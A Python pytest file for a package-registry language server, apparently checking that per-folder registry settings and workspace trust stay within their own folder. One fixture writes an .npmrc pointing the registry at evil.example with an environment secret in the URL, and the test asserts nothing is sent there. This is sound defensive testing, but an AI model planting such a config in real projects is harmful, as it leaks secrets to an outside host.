"""A workspace of several folders, each with its own settings and its own trust: what holds in one
holds for its names wherever they are asked about, and nowhere else.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest
from lsprotocol import types

from registry_lsp import endpoints
from support.editor import Editor, editor
from support.registries import NpmPackage, Registries
from support.world import World, below, world

NPM = urlsplit(endpoints.NPM_REGISTRY).netloc
CORP = "npm.corp.example"
EVIL = "evil.example"
SECRET = "shell-secret-1"
ONE = NpmPackage(versions={"1.0.0": {}})


@pytest.fixture
def around(tmp_path: Path) -> Iterator[World]:
    private = Registries(npm={"kept": ONE, "react": ONE})
    hosts = {NPM: below("/npm", Registries(npm={"react": ONE})), CORP: private, EVIL: Registries()}
    for folder in ("web", "api", "home"):
        (tmp_path / folder).mkdir()
    (tmp_path / "web" / "package.json").write_text('{"dependencies": {"react": "1"}}')
    with world(hosts, tmp_path) as it:
        it.environ |= {name: str(tmp_path / "home") for name in ("HOME", "USERPROFILE")}
        it.environ["SHELL_SECRET"] = SECRET
        yield it


async def asked_about(client: Editor, name: str) -> dict[str, Any]:
    """What a query in the first folder answers."""
    params = types.ExecuteCommandParams(
        command="registry-lsp.package", arguments=[{"registry": "npm", "name": name}]
    )
    answer: dict[str, Any] = await client.client.workspace_execute_command_async(params)
    return answer


def told(it: World, host: str) -> list[str]:
    return [unquote(each.path) for each in it.to(host)]


def settings(**more: Any) -> dict[str, Any]:
    """Settings whose effect is seen by :func:`holds`."""
    return {"diagnostics": {"severity": {"no-matching-version": "hint"}}, **more}


def holds(shown: Sequence[types.Diagnostic]) -> bool:
    return any(each.severity is types.DiagnosticSeverity.Hint for each in shown)


async def test_the_registry_that_is_set_for_a_folder_has_its_names(around: World, tmp_path: Path):
    web, api = tmp_path / "web", tmp_path / "api"
    (api / "package.json").write_text('{"dependencies": {"kept": "1"}}')
    async with editor(tmp_path, folders=[web, api], configuration={}, environ=around.environ) as it:
        own = {"npm": {"url": f"https://{CORP}/npm/"}}
        it.configure(settings(registries=own), folder=api)
        uri = it.open("api/package.json", '{"dependencies": {"react": "^0.1"}}')
        await it.diagnostics(uri, holds)
        answer = await asked_about(it, "kept")
    assert (answer.get("name"), answer.get("version")) == ("kept", "1.0.0")
    assert not any("kept" in path for path in told(around, NPM))


async def test_what_is_trusted_is_one_folder_and_not_its_neighbour(around: World, tmp_path: Path):
    web, api = tmp_path / "web", tmp_path / "api"
    (api / "package.json").write_text('{"dependencies": {"thing": "1"}}')
    (api / ".npmrc").write_text(f"registry=https://{EVIL}/${{SHELL_SECRET}}/\n")
    async with editor(tmp_path, folders=[web, api], configuration={}, environ=around.environ) as it:
        it.configure(settings(workspace={"trusted": True}), folder=web)
        uri = it.open("web/package.json", '{"dependencies": {"react": "^0.1"}}')
        await it.diagnostics(uri, holds)
        answer = await asked_about(it, "thing")
    assert "Nobody is asked about thing" in answer["error"]["message"]
    assert not around.to(EVIL)
    assert not any("thing" in path for path in told(around, NPM))


async def test_what_is_open_keeps_its_names_in_whatever_folder(around: World, tmp_path: Path):
    web, api = tmp_path / "web", tmp_path / "api"
    text = '{"dependencies": {"mine": "file:../mine", "react": "^0.1"}}'
    async with editor(tmp_path, folders=[web, api], configuration={}, environ=around.environ) as it:
        it.configure(settings(), folder=api)
        uri = it.open("api/package.json", text)
        await it.diagnostics(uri, holds)
        answer = await asked_about(it, "mine")
    assert "Nobody is asked about mine" in answer["error"]["message"]
    assert not any("mine" in path for path in told(around, NPM))
